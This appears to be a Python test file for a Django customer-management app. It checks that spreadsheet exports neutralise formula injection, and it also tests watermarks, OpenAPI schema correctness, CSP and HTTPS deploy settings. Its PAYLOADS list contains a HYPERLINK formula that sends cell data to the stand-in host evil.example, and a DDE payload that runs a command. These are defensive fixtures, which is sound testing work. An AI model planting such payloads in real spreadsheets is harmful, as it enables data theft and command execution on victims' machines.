"""Issue 11, defects 2 (formula injection), 6 (OpenAPI names and statuses), 7 (docs without a CDN) and
12 (CSP, HTTPS, check --deploy); the export watermark (domain spec 10.5)."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from django.test import Client
from pydantic import BaseModel

from kehu.core.exports import safe_cell

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
SRC = Path(__file__).resolve().parents[2] / "src" / "kehu"


# ----------------------------------------------------------------------------- defect 2


@pytest.mark.parametrize("value", [*PAYLOADS, "\tX", "\rY", "=1"])
def test_safe_cell_neutralises_and_keeps_the_text(value):
    out = safe_cell(value)
    assert out == "'" + value and out[1:] == value


@pytest.mark.parametrize("value", ["北京", "a=b", "", 12, -5, None])
def test_safe_cell_leaves_the_rest(value):
    assert safe_cell(value) == value


def test_customer_exports_write_no_live_formula(world):
    for payload in PAYLOADS:
        world.enterprise(name=payload[:60], business_scope=payload)
    client = Client()
    client.force_login(world.bj_cm)
    r = client.get("/customers/bulk/export/", {"format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(r.streaming_content).decode("utf-8-sig"))))
    cells = [c for row in rows[1:-1] for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert {p[:60] for p in PAYLOADS} <= {c[1:] for c in cells if c.startswith("'")}
    r = client.get("/customers/bulk/export/", {"format": "xlsx"})
    book = openpyxl.load_workbook(io.BytesIO(b"".join(r.streaming_content)))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    assert {p[:60] for p in PAYLOADS} <= {c.value[1:] for c in cells if isinstance(c.value, str)
                                          and c.value.startswith("'")}


def test_large_credit_and_grading_xlsx_write_no_live_formula(cworld):
    from tests._fixtures.credit_world import active_line, rated_customer
    from tests.exposure.test_services import HEADER, _period

    from kehu.exposure import services as exposure
    from kehu.grading.reports import summary_xlsx

    w = cworld
    c = rated_customer(w)
    c.name = PAYLOADS[0]
    c.save(update_fields=["name"])
    active_line(w, c, "150000000.00")
    period = _period(0)
    exposure.month_freeze(actor=w.hq_risk, period=period)
    report = exposure.report_draft(actor=w.hq_risk, period=period, **{**HEADER, "preparer": "=cmd"})
    data, _ctype, _name = exposure.report_export(actor=w.hq_risk, report_id=report.pk, fmt="xlsx")
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    assert not [x for x in cells if x.data_type == "f"]
    assert "'" + PAYLOADS[0] in [x.value for x in cells] and "'=cmd" in [x.value for x in cells]

    class Row:  # the summary's rows as the grading selector yields them
        class customer:  # noqa: N801
            name = true_name = PAYLOADS[3]
            kind = "enterprise"
        score_volume = score_fulfilment = score_payment = score_operating = total_score = 1
        grade, overridden, knockout, previous_grade, change = "A", False, "", "", None

    class Rows(list):
        def iterator(self, chunk_size=0):
            return iter(self)

    import datetime as dt

    book = openpyxl.load_workbook(io.BytesIO(summary_xlsx(dt.date(2026, 11, 1), Rows([Row()]), mark="# 导出人 x")))
    values = [cell.value for row in book.active.iter_rows() for cell in row]
    assert "'" + PAYLOADS[3] in values and "# 导出人 x" in values


def test_every_export_writer_goes_through_the_shared_helper():
    """Every module that writes CSV or XLSX for a user imports kehu.core.exports (one helper)."""
    writers = []
    for path in SRC.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if "/tests/" in str(path) or "/migrations/" in str(path):
            continue
        if re.search(r"csv\.writer\(|Workbook\(", text):
            writers.append(path)
    assert writers
    missing = [str(p.relative_to(SRC)) for p in writers if "kehu.core.exports" not in p.read_text(encoding="utf-8")]
    assert missing == []


# ----------------------------------------------------------------------------- watermark and audit


def test_every_export_carries_a_watermark_and_is_audited(world):
    from kehu.core.models import AuditEvent

    world.enterprise()
    client = Client()
    client.force_login(world.bj_cm)
    body = b"".join(client.get("/customers/bulk/export/", {"format": "csv"}).streaming_content).decode("utf-8-sig")
    assert body.rstrip().splitlines()[-1].startswith(f"# 导出人 bj_cm (#{world.bj_cm.pk}) 导出时间 ")
    r = client.get("/customers/bulk/export/", {"format": "xlsx"})
    book = openpyxl.load_workbook(io.BytesIO(b"".join(r.streaming_content)))
    assert book.properties.creator.startswith("# 导出人 bj_cm")
    assert AuditEvent.objects.filter(event_code=7002).count() == 2


# ----------------------------------------------------------------------------- defect 6


def _models(api) -> list[type[BaseModel]]:
    """Every pydantic model the API's operations read or answer, nested ones included."""
    seen: dict[int, type[BaseModel]] = {}

    def walk(tp):
        if isinstance(tp, type) and issubclass(tp, BaseModel):
            if id(tp) in seen:
                return
            seen[id(tp)] = tp
            for field in tp.model_fields.values():
                walk(field.annotation)
        for arg in getattr(tp, "__args__", ()) or ():
            walk(arg)

    for _prefix, router in api._routers:
        for view in router.path_operations.values():
            for op in view.operations:
                for model in op.models:
                    for field in model.model_fields.values():
                        walk(field.annotation)
                for model in op.response_models.values():
                    walk(model)
    return list(seen.values())


def test_schema_names_are_unique():
    from kehu.api import api

    by_name: dict[str, set[str]] = {}
    for model in _models(api):
        if model.__module__.startswith(("ninja.", "pydantic.")):
            continue
        by_name.setdefault(model.__name__, set()).add(f"{model.__module__}.{model.__qualname__}")
    clashes = {name: sorted(where) for name, where in by_name.items() if len(where) > 1}
    assert clashes == {}


def test_the_invoice_body_is_documented_as_it_is(world):
    from kehu.api import api

    schema = api.get_openapi_schema()
    body = schema["paths"]["/api/v1/trade/orders/{order_id}/invoice"]["post"]["requestBody"]
    ref = body["content"]["application/json"]["schema"]["$ref"].rsplit("/", 1)[-1]
    assert set(schema["components"]["schemas"][ref]["properties"]) == {"reference", "issued_on", "due_on"}


def test_every_operation_declares_its_error_statuses():
    from kehu.api import api

    schema = api.get_openapi_schema()
    for path, methods in schema["paths"].items():
        for method, op in methods.items():
            declared = set(op["responses"])
            assert {"400", "401", "403", "404", "409", "422"} <= declared, (method, path, declared)


# ----------------------------------------------------------------------------- defect 7


def test_docs_page_is_served_from_kehus_own_static_files(world):
    client = Client()
    r = client.get("/api/v1/docs")
    assert r.status_code == 302 and "/login" in r["Location"]
    client.force_login(world.bj_cm)
    r = client.get("/api/v1/docs")
    assert r.status_code == 200
    html = r.content.decode()
    scripts = re.findall(r'<(?:script|link)[^>]+(?:src|href)="([^"]+)"', html)
    assert scripts and all(s.startswith("/static/") for s in scripts), scripts
    assert "cdn" not in html.lower() and "https://" not in html
    for url in scripts:
        assert client.get(url).status_code == 200, url


# ----------------------------------------------------------------------------- defect 12


def test_csp_header_and_no_inline_script(world):
    client = Client()
    client.force_login(world.bj_cm)
    r = client.get("/")
    csp = r["Content-Security-Policy"]
    assert "default-src 'self'" in csp and "script-src 'self'" in csp and "unsafe-inline" not in csp.split(
        "script-src")[1].split(";")[0]
    assert "frame-ancestors 'none'" in csp
    inline = []
    for template in SRC.rglob("*.html"):
        text = template.read_text(encoding="utf-8")
        inline += [str(template) for _ in re.finditer(r"<script(?![^>]*\bsrc=)(?![^>]*application/json)[^>]*>", text)]
        inline += [str(template) for _ in re.finditer(r"\son[a-z]+=\"", text)]
    assert inline == []


def _production_env(home: Path, **extra) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("KEHU_")}
    env.update({"KEHU_HOME": str(home), "KEHU_DEBUG": "0", "KEHU_HTTPS": "1", "KEHU_ALLOWED_HOSTS": "kehu.example.cn",
                "KEHU_SECRET_KEY": "x" * 20 + "Kehu-deploy-check-secret-0123456789-abcdefghij",
                "KEHU_DATA_KEYS": "k1:" + "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWY=",
                "KEHU_AUDIT_KEY": "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWY=", **extra})
    return env


def test_https_settings_and_check_deploy_without_warnings(tmp_path):
    kehu = str(Path(sys.executable).with_name("kehu"))
    env = _production_env(tmp_path)
    result = subprocess.run([kehu, "manage", "check", "--deploy", "--fail-level", "WARNING"], env=env,
                            capture_output=True, text=True, timeout=300, check=False)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "no issues" in result.stdout + result.stderr
    probe = ("from django.conf import settings as s; print(s.SECURE_SSL_REDIRECT, s.SECURE_HSTS_SECONDS > 0, "
             "s.SESSION_COOKIE_SECURE, s.CSRF_COOKIE_SECURE)")
    out = subprocess.run([kehu, "manage", "shell", "-c", probe], env=env, capture_output=True, text=True,
                         timeout=300, check=False)
    assert out.stdout.strip().splitlines()[-1].split() == ["True", "True", "True", "True"], out.stdout + out.stderr
    env["KEHU_HTTPS"] = "0"
    out = subprocess.run([kehu, "manage", "shell", "-c", probe], env=env, capture_output=True, text=True,
                         timeout=300, check=False)
    assert out.stdout.strip().splitlines()[-1].split() == ["False", "False", "False", "False"], out.stdout + out.stderr
